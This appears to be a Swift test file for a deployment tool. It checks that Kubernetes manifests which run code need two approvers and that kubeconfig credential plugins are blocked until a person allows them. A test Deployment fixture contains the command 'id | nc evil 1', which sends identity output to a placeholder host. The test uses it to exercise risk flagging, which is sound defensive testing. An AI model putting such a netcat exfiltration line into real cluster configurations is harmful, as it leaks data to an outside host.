import Basics
import Delivery
import Foundation
import Records
import Store
import Testing

/// What objects of a cluster and the client's own configuration run, takes people who see it.
struct ClusterBoundaryTests {
  private static let job = """
    apiVersion: v1
    kind: ConfigMap
    metadata: {name: settings, namespace: shop}
    data: {colour: "red"}
    ---
    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: web, namespace: shop}
    spec:
      selector: {matchLabels: {app: web}}
      template:
        metadata: {labels: {app: web}}
        spec: {containers: [{name: web, image: "nginx:1.27", command: [sh, -c, "id | nc evil 1"]}]}

    """

  @Test(.needsCluster) func whatRunsInTheClusterTakesTwoPeopleAndShowsItsText() async throws {
    try await ClusterPlace.with { cluster in
      let place = cluster.place
      try place.write(Self.job, "manifests/web.yaml")
      let planned = try await place.executor().plan(place.folder) { _ in }
      #expect(planned.document.approversNeeded == 2)
      let risk = planned.document.risks.first { $0.kind == .code }
      #expect(risk?.address == "Deployment/shop/web" && risk?.reason.contains("nc evil 1") == true)
      _ = try await place.executor().approve(
        planned.record.id, word: ApprovalWord(approver: "maria", typedCount: 2))
      await Place.refused(.notApproved) { _ = try await place.executor().apply(planned.record.id) { _ in } }
      #expect(try cluster.changes().isEmpty)
    }
  }

  /// A credential plugin of a kubeconfig runs with the first question to the server.
  @Test(.needsCluster) func aPluginRunsOnlyWhereAPersonAllowedIt() async throws {
    try await ClusterPlace.with { cluster in
      let place = cluster.place
      let mark = "\(place.root)/it-ran"
      let plugin = "\(place.root)/plugin"
      try Data("#!/bin/sh\ntouch '\(mark)'\n".utf8).write(to: URL(filePath: plugin))
      try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: plugin)
      let file = try #require(place.environment["KUBECONFIG"])
      func configure(_ argument: String) throws {
        let text = try String(contentsOfFile: file, encoding: .utf8)
        let user =
          "users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: \(plugin), args: [\(argument)]}}}]"
        let lines = text.split(separator: "\n").map { $0.hasPrefix("users:") ? user : String($0) }
        try Data(lines.joined(separator: "\n").utf8).write(to: URL(filePath: file))
      }
      try configure("one")
      try place.write(Self.job, "manifests/web.yaml")
      let error = await #expect(throws: DeliveryError.self) {
        try await place.executor().plan(place.folder) { _ in }
      }
      #expect(error?.code == .effects && error?.detail.contains("\(plugin) one") == true)
      #expect(!FileManager.default.fileExists(atPath: mark))
      #expect(try await place.store().audit().map(\.entry.action) == [.refused])
      // Another argument is another program.
      let id = try #require(error?.detail.firstMatch(of: /--allow (program-[0-9a-f]+)/)?.1)
      try configure("two")
      await Place.refused(.effects) {
        _ = try await place.executor().plan(place.folder, allowing: [String(id)]) { _ in }
      }
      #expect(!FileManager.default.fileExists(atPath: mark))
    }
  }
}
